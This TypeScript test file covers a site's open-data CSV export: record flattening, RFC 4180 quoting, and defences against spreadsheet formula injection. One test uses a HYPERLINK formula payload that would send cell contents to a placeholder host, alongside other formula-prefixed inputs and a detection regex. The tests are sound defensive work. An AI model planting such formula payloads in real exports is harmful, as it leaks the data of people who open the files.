import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildCatalog } from '../src/lib/catalog.ts';
import { neutraliseFormula, openDataFields, toCsv, toOpenDataRecord } from '../src/lib/open-data.ts';
import { openDataUrl } from '../src/lib/routes.ts';
import { DIST, urlOf, walk } from './built-site.ts';
import { tinyCatalogInput } from './fixtures/catalog.ts';

const catalog = buildCatalog(tinyCatalogInput());
const site = new URL('https://alliances.test');

describe('open data', () => {
  it('flattens a case into ids a researcher can join, with the computed instigator type', () => {
    const record = toOpenDataRecord(catalog.case('cas-a'), catalog, site);
    expect(Object.keys(record)).toEqual(Object.keys(openDataFields));
    expect(record).toMatchObject({
      id: 'cas-a',
      instigateur: 'mairie',
      type_instigateur: 'collectivite',
      partenaires: ['asso', 'usine'],
      regions: ['bretagne'],
      annee_fin: null,
      mise_a_jour: '2026-01-15',
      url: 'https://alliances.test/cas/cas-a/',
    });
  });

  it('writes RFC 4180 CSV: a header, quoted cells, doubled quotes, lists joined with |', () => {
    const record = { ...toOpenDataRecord(catalog.case('cas-c'), catalog, site), titre: 'Le « cas » "C"' };
    const [header, row] = toCsv([record]).split('\r\n');
    expect(header).toBe(Object.keys(openDataFields).map((name) => `"${name}"`).join(','));
    expect(row).toContain('"Le « cas » ""C"""');
    expect(row).toContain('"2018"');
    expect(toCsv([toOpenDataRecord(catalog.case('cas-a'), catalog, site)])).toContain('"emploi-insertion|mobilite"');
  });
});

describe('the CSV export in a spreadsheet', () => {
  /** The cells of an RFC 4180 CSV whose every field is quoted, row by row. */
  const cellsOf = (csv: string) =>
    csv.trimEnd().split('\r\n').map((row) => [...row.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((match) => match[1]!.replaceAll('""', '"')));

  it('starts with an apostrophe every cell a spreadsheet would run as a formula', () => {
    const record = {
      ...toOpenDataRecord(catalog.case('cas-c'), catalog, site),
      titre: '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
      resume: '+33 1 23 45 67 89',
      territoire: '-2+3',
      departement: '@SUM(A1:A9)',
      partenaires: ['\t=1+1', 'asso'],
    };
    const [, row] = cellsOf(toCsv([record]));
    expect(row).toEqual(expect.arrayContaining([
      '\'=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
      "'+33 1 23 45 67 89",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1|asso",
    ]));
    expect(neutraliseFormula('Rennes, quartier du Blosne')).toBe('Rennes, quartier du Blosne');
  });

  const publishedCsv = walk(DIST).filter((file) => file.endsWith('.csv'));

  it('is the one CSV the site publishes', () => {
    expect(publishedCsv.map(urlOf)).toEqual([openDataUrl('csv')]);
  });

  it.each(publishedCsv)('%s, as published, has no such cell', (file) => {
    const rows = cellsOf(readFileSync(file, 'utf8'));
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.every((row) => row.length === rows[0]!.length)).toBe(true);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
